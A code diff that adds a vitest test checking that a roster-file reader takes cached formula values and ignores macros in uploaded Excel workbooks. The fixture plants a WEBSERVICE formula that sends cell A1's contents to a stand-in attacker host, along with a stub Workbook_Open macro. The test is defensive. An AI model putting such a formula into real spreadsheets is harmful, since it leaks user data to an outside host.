@@ -1,3 +1,4 @@
+import { unzipSync } from 'fflate';
 import { expect, test } from 'vitest';
 import { excelFile } from '../../../tests/support/excel-file.ts';
 import { docResume, docxResume } from '../../../tests/support/resume-files.ts';
@@ -30,6 +31,21 @@ test('a workbook gives its first sheet with rows, days that can mean one day, an
   });
   const two = await readRosterFile(excelFile({ Batch: batch, Fees: [['Paid'], [1]] }));
   expect(two).toMatchObject({ text, sheet: 'Batch' });
+});
+
+test('of a formula its last value is read, and a macro is left where it is', async () => {
+  const { 'xl/worksheets/sheet1.xml': sheet, ...parts } = unzipSync(
+    excelFile({ Batch: [['Name'], ['Asha Rao']] }),
+  );
+  const formula = '<f>WEBSERVICE("http://evil.example/"&amp;A1)</f>';
+  const workbook = zip({
+    ...Object.fromEntries(Object.entries(parts).map(([name, part]) => [name, Buffer.from(part)])),
+    'xl/worksheets/sheet1.xml': Buffer.from(sheet ?? [])
+      .toString()
+      .replace(/(<c r="A2"[^>]*>)/, `$1${formula}`),
+    'xl/vbaProject.bin': 'Sub Workbook_Open()',
+  });
+  expect(await readRosterFile(workbook)).toMatchObject({ text: 'Name\nAsha Rao\n' });
 });
 
 test.each([
